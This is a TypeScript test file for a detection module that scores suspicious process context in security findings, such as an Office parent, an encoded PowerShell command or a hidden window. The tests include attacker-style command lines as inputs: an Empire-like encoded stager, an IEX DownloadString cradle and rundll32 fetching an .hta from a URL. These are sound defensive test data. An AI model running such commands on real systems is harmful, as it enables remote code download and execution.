import { describe, expect, it } from 'vitest';
import { applyContextFactors, commandArguments, contextFactors, MAX_POINTS, MODERATE_POINTS, STRONG_POINTS } from './context-factors.js';
import type { Finding, ProcessContext } from './types.js';

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const RUNDLL = 'C:\\Windows\\System32\\rundll32.exe';
const DLLHOST = 'C:\\Windows\\System32\\dllhost.exe';
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';

const ids = (ctx: ProcessContext, image: string) => contextFactors(ctx, image).map((f) => f.id);
const ctx = (commandLine: string, parentImage = 'C:\\Windows\\explorer.exe'): ProcessContext => ({ match: 'process-guid', commandLine, parentImage });

describe('contextFactors', () => {
  it('reads the signs a hunter trusts from the command line and parent', () => {
    // Empire's stager from a Word macro: Office parent, encoded command, hidden window (-w 1).
    expect(ids(ctx('powershell -noP -sta -w 1 -enc JAB3AGMAIAA9ACAATgBlAHcA', WORD), PS)).toEqual(['office-parent', 'encoded-command', 'hidden-window']);
    // Every accepted spelling of -EncodedCommand, with - or /.
    for (const flag of ['-e', '-ec', '-en', '-enc', '-EncodedCommand', '/enc']) expect(ids(ctx(`powershell ${flag} SQBFAFgAIAAoAE4AZQB3AC0ATwBi`), PS), flag).toEqual(['encoded-command']);
    // rundll32 loading a DLL from the user's profile; from a URL; without any argument.
    expect(ids(ctx('"C:\\Windows\\System32\\rundll32.exe" C:\\Users\\ann\\AppData\\Local\\Temp\\inv.dll,Start'), RUNDLL)).toEqual(['code-from-user-folder']);
    expect(ids(ctx('rundll32.exe url.dll,OpenURL https://198.51.100.9/a.hta'), RUNDLL)).toEqual(['code-from-user-folder']);
    expect(ids(ctx('C:\\Windows\\System32\\rundll32.exe'), RUNDLL)).toEqual(['no-arguments']);
    expect(ids(ctx('"C:\\Windows\\System32\\rundll32.exe"  '), RUNDLL)).toEqual(['no-arguments']);
    // A download cradle and a hidden window are moderate.
    expect(ids(ctx('powershell.exe -NoProfile -WindowStyle Hidden -c "Invoke-WebRequest http://127.0.0.1:8888"'), PS)).toEqual(['hidden-window', 'download-cradle']);
  });

  it('near misses: legitimate spellings that look alike show nothing', () => {
    // -ExecutionPolicy starts with -e but is not -EncodedCommand; a script file is not encoded.
    expect(ids(ctx('powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -File C:\\SOC\\scripts\\Update.ps1'), PS)).toEqual([]);
    // An encoded argument too short to be a command (under 16 base64 characters).
    expect(ids(ctx('powershell.exe -enc AAAA'), PS)).toEqual([]);
    // Control panel applets and Microsoft's own ProgramData folder are not user code.
    expect(ids(ctx('rundll32.exe shell32.dll,Control_RunDLL desk.cpl'), RUNDLL)).toEqual([]);
    expect(ids(ctx('rundll32.exe C:\\ProgramData\\Microsoft\\Windows Defender\\x.dll,Run'), RUNDLL)).toEqual([]);
    expect(ids(ctx('rundll32.exe C:\\ProgramData\\Vendor\\x.dll,Run'), RUNDLL)).toEqual(['code-from-user-folder']);
    // dllhost normally carries /Processid:{CLSID}.
    expect(ids(ctx('C:\\Windows\\system32\\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}'), DLLHOST)).toEqual([]);
    // Word started by Word is not an Office child; a non-script host with "-w 1" is not a hidden window.
    expect(ids(ctx('"WINWORD.EXE" /n', WORD), WORD)).toEqual([]);
    expect(ids(ctx('agent.exe -w 1'), 'C:\\Program Files\\Vendor\\agent.exe')).toEqual([]);
    // Without a command line in the context, "no arguments" cannot be told.
    expect(contextFactors({ match: 'host-image', parentImage: 'C:\\Windows\\explorer.exe' }, RUNDLL)).toEqual([]);
  });

  it('commandArguments drops the image, quoted or not', () => {
    expect(commandArguments('"C:\\a b\\x.exe" -f 1')).toBe('-f 1');
    expect(commandArguments('x.exe   -f 1 ')).toBe('-f 1');
    expect(commandArguments('x.exe')).toBe('');
    expect(commandArguments('"C:\\unterminated')).toBe('');
  });
});

function finding(severity: Finding['severity'], risk: number, context?: ProcessContext, process = PS): Finding {
  return {
    id: 'f',
    detection: { id: 'd', name: 'D', techniques: [], group: 'g' },
    host: 'WKS-1',
    process,
    destIps: [],
    destNames: [],
    ports: [],
    severity,
    confidence: 'medium',
    risk,
    evidence: [],
    explanation: '',
    guide: [],
    response: [],
    context,
  };
}

describe('applyContextFactors', () => {
  it('adds points to findings of medium or above and raises medium to high on a strong factor', () => {
    expect([STRONG_POINTS, MODERATE_POINTS, MAX_POINTS]).toEqual([10, 4, 25]);
    const stager = ctx('powershell -noP -sta -w 1 -enc JAB3AGMAIAA9ACAATgBlAHcA', WORD);
    const [medium, high, low, none] = applyContextFactors([finding('medium', 22.5, stager), finding('high', 80, stager), finding('low', 15, stager), finding('medium', 22.5)]);
    // Two strong (10 + 10) and one moderate (4): 24, under the cap of 25.
    expect([medium!.severity, medium!.risk, medium!.severityRaisedFrom]).toEqual(['high', 46.5, 'medium']);
    expect(medium!.factors!.map((f) => f.points)).toEqual([10, 10, 4]);
    // High stays high; 80 + 24 = 104 is capped at 100.
    expect([high!.severity, high!.risk, high!.severityRaisedFrom]).toEqual(['high', 100, undefined]);
    // Low keeps its severity and risk but lists what it saw, with 0 points.
    expect([low!.severity, low!.risk]).toEqual(['low', 15]);
    expect(low!.factors!.map((f) => [f.id, f.points])).toEqual([
      ['office-parent', 0],
      ['encoded-command', 0],
      ['hidden-window', 0],
    ]);
    // No context: the same object back.
    expect(none!.factors).toBeUndefined();
  });

  it('caps the points at MAX_POINTS and a moderate factor alone does not raise the severity', () => {
    // Office parent 10 + encoded command 10 + hidden window 4 + download cradle 4 = 28, capped at 25:
    // the last factor gets the 1 point left. Risk 20 + 25 = 45.
    const all = ctx('powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi -c "IEX (New-Object Net.WebClient).DownloadString(\'x\')"', WORD);
    const [f] = applyContextFactors([finding('medium', 20, all)]);
    expect(f!.factors!.map((x) => [x.id, x.points])).toEqual([
      ['office-parent', 10],
      ['encoded-command', 10],
      ['hidden-window', 4],
      ['download-cradle', 1],
    ]);
    expect(f!.risk).toBe(45);
    // A hidden window alone: +4, still medium.
    const [g] = applyContextFactors([finding('medium', 20, ctx('powershell -WindowStyle Hidden -File C:\\Scripts\\job.ps1'))]);
    expect([g!.severity, g!.risk]).toEqual(['medium', 24]);
  });
});
